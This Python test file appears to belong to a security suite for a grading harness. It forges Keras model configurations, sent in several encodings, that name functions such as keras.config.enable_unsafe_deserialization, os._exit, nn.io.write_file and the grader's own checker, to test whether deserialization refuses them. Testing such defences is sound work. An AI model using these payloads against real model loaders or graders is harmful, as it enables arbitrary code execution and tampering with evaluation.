"""Sends models whose configuration names functions and modules that are no part of a network."""

# /// attack
# ran = ["network", "total"]
# control = "none: Keras itself takes only functions and classes of its own"
# ///
# %% before total
import io
import itertools
import json
import zipfile

from heldout.grading.codecs import keras as codec

written = codec.ModelCodec.to_plain
ways = itertools.cycle(["plain", "archive", "asked"])


def to_plain(self, value):
    if (change := getattr(value, "forged", None)) is None:
        return written(self, value)
    with zipfile.ZipFile(io.BytesIO(codec._archive(value))) as whole:
        members = {name: whole.read(name) for name in whole.namelist()}
    config = json.dumps(change(json.loads(members["config.json"])))
    members["config.json"] = config.encode()
    with zipfile.ZipFile(data := io.BytesIO(), "w") as whole:
        for name, member in members.items():
            whole.writestr(name, member)
    weights = value.get_weights()
    contents = {
        "plain": [[config, weights, []], None, None],
        "archive": [None, data.getvalue(), None],
        "asked": [None, None, [json.dumps({"model": json.loads(config)}), weights, ["nn.__loader__", "nn.io.write_file", print]]],
    }
    return [*contents[next(ways)], written(self, value)[-1]]


codec.ModelCodec.to_plain = to_plain


def forged(model, change):
    model.forged = change
    return model


# %% network
def network(inputs, units):
    model = keras.Sequential([keras.Input((inputs,)), layers.Dense(units), layers.Dense(1)])

    def change(config):
        config["config"]["layers"][1]["config"]["activation"] = {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "enable_unsafe_deserialization",
        }
        config["config"]["layers"][2]["config"]["kernel_initializer"] = {
            "module": "heldout.grading.checker",
            "class_name": "serve",
            "config": {},
            "registered_name": None,
        }
        return config

    ran("network")
    return forged(model, change)


# %% total
def total(numbers):
    def change(config):
        return {"module": "os", "class_name": "function", "config": "_exit", "registered_name": "_exit"}

    ran("total")
    return forged(keras.Sequential([keras.Input((1,)), layers.Dense(1)]), change)
